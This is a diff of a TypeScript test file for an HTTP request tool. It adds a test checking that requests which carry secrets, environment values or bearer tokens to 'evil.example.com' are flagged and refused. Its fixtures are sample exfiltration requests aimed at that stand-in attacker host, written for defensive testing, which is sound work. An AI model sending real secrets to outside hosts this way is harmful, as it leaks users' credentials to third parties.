@@ -5,7 +5,9 @@ import { parseDocument } from '../../../../src/requests/document/parse';
 import { destinations, type Destination } from '../../../../src/requests/sending/destination';
 import type { NamedResponse } from '../../../../src/requests/document/responseReference';
 import { target } from '../fixture';
-import { resolve } from '../resolving';
+import { refusal, resolve } from '../resolving';
+
+const leak = 'secretToOtherOrigin';
 
 const environmentVariables = { evil: 'https://evil.example.com', path: '/hserve/v1/content/group/', name: 'evil' };
 const body = { host: 'evil.example.com', slash: '/evil.example.com', ttp: 'ttp', id: 7 };
@@ -79,6 +81,21 @@ describe('the destination of a request before it is sent', () => {
 
   it('is unknown when a response, a question or a function decides the host', async () => {
     for (const text of open) assert.equal(await destinationOf(text), undefined, text);
+  });
+
+  it('says that another host would get a secret, so that the sender refuses', async () => {
+    const evil = 'POST https://evil.example.com/';
+    const carries = [
+      `${evil}\nX-A: Bearer {{$secret a}}`,
+      `${evil}{{$guid}}\nX-A: {{$dotenv A public}}`,
+      `@a = {{$processEnv A}}\n${evil}\n\n{"a": "{{a}}"}`,
+    ];
+    const told = async (text: string) => (await destinationOf(text))?.leaksSecret;
+    const machineValue = async () => new Secret('known');
+    for (const text of carries)
+      assert.deepEqual([await told(text), await refusal(text, { machineValue })], [true, leak], text);
+    for (const text of [evil, `${evil}\nX-A: {{$guid}}`, '/hserve/v1/content/group/\nX-A: {{$secret a}}'])
+      assert.equal(await told(text), false, text);
   });
 
   it('is production when a header or an encoded path makes it end the tokens of all environments', async () => {
